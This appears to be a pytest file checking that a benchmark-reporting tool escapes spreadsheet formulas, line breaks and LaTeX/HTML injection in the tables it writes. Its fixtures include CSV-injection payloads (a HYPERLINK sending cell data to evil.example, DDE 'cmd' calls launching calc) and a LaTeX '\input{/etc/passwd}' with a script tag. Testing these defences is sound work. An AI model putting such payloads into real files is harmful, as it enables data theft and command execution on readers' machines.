"""Names, answers and texts of others in tables: no formulas, no forged rows, and the same texts when they are read."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eyechart.cli import main
from eyechart.datasets.questions.prediction_files import dump, load_table, read_xlsx, write_xlsx
from eyechart.io.text_tables import csv_text, guarded, is_formula, unguarded
from eyechart.report.loader import load_results
from eyechart.report.retrieval_comparison import Route, as_csv, as_markdown, compare

FORMULAS = [
    '=HYPERLINK("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "'=1+1",
    "''=1+1",
    "-",
]
NUMBERS = ["-0.5", "+3", "-1e-05", "-.5", "+12.", "7"]
BREAKS = [
    "a\rdataset,forged,p,t,en",
    "a\nb",
    "a\r\nb",
    "a\x0bb",
    "a\x0cb",
    "a\x1cb",
    "a\x85b",
    "a\u2028b",
    "\r",
    '"\r"',
]
PLAIN = ["ViT-B-32", "don't", "'quoted'", "a=b", "a, b", 'a "b"', " =spaced", "", "'", "\u202etxt"]
TEXTS = [*FORMULAS, *NUMBERS, *BREAKS, *PLAIN]
"""Texts that a cell may hold."""


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def write_result(path, **changes):
    body = {"dataset": "d", "model": "m", "pretrained": "p", "task": "t", "language": "en", "metrics": {"acc1": -0.5}}
    path.write_text(json.dumps(body | changes))


def identities(path):
    return [item.result.identity for item in load_results([path]).found]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_compute_is_marked_as_text(text):
    assert is_formula(text)
    assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("text", [*NUMBERS, *PLAIN])
def test_numbers_and_other_texts_stay_as_they_are(text):
    assert guarded(text) == text


@given(st.lists(st.lists(st.text(alphabet=st.sampled_from("'=+-@\t\r\n\u2028\x85\",;a1. \ud800")), min_size=2)))
def test_any_cells_are_read_as_they_were_written(rows):
    read = cells_of(csv_text(rows))

    assert [[unguarded(cell) for cell in row] for row in read] == rows
    assert not [cell for row in read for cell in row if is_formula(cell) and not cell.startswith("'")]


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("field", ["model", "dataset", "pretrained"])
def test_build_on_what_build_wrote_gives_the_same_results(field, text, tmp_path, capsys):
    write_result(tmp_path / "r.json", **{field: text})
    first, second = tmp_path / "a" / "1.csv", tmp_path / "b" / "2.csv"

    assert main(["build", str(tmp_path / "r.json"), "-o", str(first)]) == 0
    assert main(["build", str(first), "-o", str(second)]) == 0

    rows = cells_of(first.read_bytes().decode())
    assert len(rows) == 2
    assert not [cell for row in rows for cell in row if is_formula(cell) and not cell.startswith("'")]
    assert identities(first) == identities(second) == identities(tmp_path / "r.json")
    assert first.read_bytes() == second.read_bytes()
    assert b",-0.5\n" in first.read_bytes()


def test_a_metric_whose_name_is_a_formula(tmp_path, capsys):
    write_result(tmp_path / "r.json", metrics={"=1+1": 0.25, "-x\r": 0.5})

    main(["build", str(tmp_path / "r.json"), "-o", str(tmp_path / "t.csv")])

    head, _ = cells_of((tmp_path / "t.csv").read_bytes().decode())
    assert head[-2:] == ["'-x\r", "'=1+1"]
    [found] = load_results([tmp_path / "t.csv"]).found
    assert found.result.metrics == {"=1+1": 0.25, "-x\r": 0.5}


@pytest.mark.parametrize("suffix", ["json", "jsonl"])
def test_results_one_a_line_may_hold_other_line_breaks(suffix, tmp_path):
    body = {"dataset": "d", "model": "a\u2028b\x85c", "pretrained": "p", "task": "t", "metrics": {"acc1": 0.5}}
    line = json.dumps(body, ensure_ascii=False)
    (tmp_path / f"r.{suffix}").write_text(f"{line}\n{line}\r\n")

    assert [found.result.model for found in load_results([tmp_path]).found] == ["a\u2028b\x85c"] * 2


def test_half_a_character_in_a_name_does_not_end_the_build(tmp_path, capsys):
    write_result(tmp_path / "r.json", model="\ud800")

    for suffix in ("csv", "md", "tex"):
        assert main(["build", str(tmp_path / "r.json"), "-o", str(tmp_path / f"t.{suffix}")]) == 0
        assert "ud800" in (tmp_path / f"t.{suffix}").read_text()


@pytest.mark.parametrize("text", BREAKS[:-2])
@pytest.mark.parametrize("suffix", ["md", "tex"])
@pytest.mark.parametrize("layout", ["rows", "matrix"])
def test_tables_for_people_have_a_line_for_each_result(text, suffix, layout, tmp_path, capsys):
    output = tmp_path / f"t.{suffix}"
    write_result(tmp_path / "plain.json", model="a b", dataset="c")
    main(["build", str(tmp_path / "plain.json"), "-o", str(output), "--layout", layout])
    lines = len(output.read_bytes().decode().splitlines())
    write_result(tmp_path / "r.json", model=text, dataset=text)

    main(["build", str(tmp_path / "r.json"), "-o", str(output), "--layout", layout])

    assert len(output.read_bytes().decode().splitlines()) == lines


def test_the_note_below_a_table_cannot_leave_its_comment(tmp_path, capsys):
    """Benchmarks that not every model has are named in it."""
    for model, dataset in (("a", "d"), ("b", "d"), ("a", "x\r\\input{/etc/passwd}<script>")):
        write_result(tmp_path / f"{model}{len(dataset)}.json", model=model, dataset=dataset, metrics={"acc1": 0.5})

    for suffix in ("tex", "md"):
        main(["build", str(tmp_path), "-o", str(tmp_path / f"t.{suffix}"), "--layout", "matrix"])

    named = [line for line in (tmp_path / "t.tex").read_bytes().decode().splitlines() if "/etc/passwd" in line]
    assert any(line.startswith("%") and "\\input{/etc/passwd}" in line for line in named)
    assert all(line.startswith("%") or "\\input{" not in line for line in named)
    assert "<script>" not in (tmp_path / "t.md").read_text()


# ---------------------------------------------------------------------------------------------- other tables


@pytest.mark.parametrize("text", TEXTS)
def test_the_comparison_of_ways_to_search(text):
    ranks = {("i1", 0): 1.0, ("i2", 0): 2.0, ("i3", 0): 1.0}
    table = compare("d\re", [Route("images", text, ranks, "x.json"), Route("captions", "m", ranks, "y.json")], [1])

    rows = cells_of(as_csv(table))

    assert len(rows) == 3
    assert unguarded(rows[1][1]) == text
    assert not is_formula(rows[1][1]) or rows[1][1].startswith("'")
    assert len(as_markdown(table).splitlines()) == 6


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "tsv", "jsonl"])
def test_predictions_are_read_as_they_were_written(suffix, tmp_path):
    rows = [{"index": str(i), "=1+1": text} for i, text in enumerate(filter(None, TEXTS))]

    dump(rows, tmp_path / f"p.{suffix}")

    assert load_table(tmp_path / f"p.{suffix}").to_dict() == rows


def test_predictions_in_csv_hold_no_formula(tmp_path):
    dump([{"=1+1": text, "score": -0.5} for text in TEXTS], tmp_path / "p.csv")

    head, *rows = cells_of((tmp_path / "p.csv").read_bytes().decode())
    assert head == ["'=1+1", "score"]
    assert [row[1] for row in rows] == ["-0.5"] * len(TEXTS)
    assert not [row[0] for row in rows if is_formula(row[0]) and not row[0].startswith("'")]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_spreadsheet_holds_formulas_as_texts(text, tmp_path):
    """It has a mark of its own for that, as if somebody had typed the apostrophe: the text itself is not changed."""
    import openpyxl

    write_xlsx(tmp_path / "p.xlsx", ["a"], [[text], ["plain"], [-0.5]])

    sheet = openpyxl.load_workbook(tmp_path / "p.xlsx").active
    assert [(cell.data_type, cell.quotePrefix) for (cell,) in sheet.iter_rows(min_row=2)] == [
        ("s", True), ("s", False), ("n", False),
    ]  # fmt: skip
    assert read_xlsx(tmp_path / "p.xlsx")["a"] == [text, "plain", -0.5]
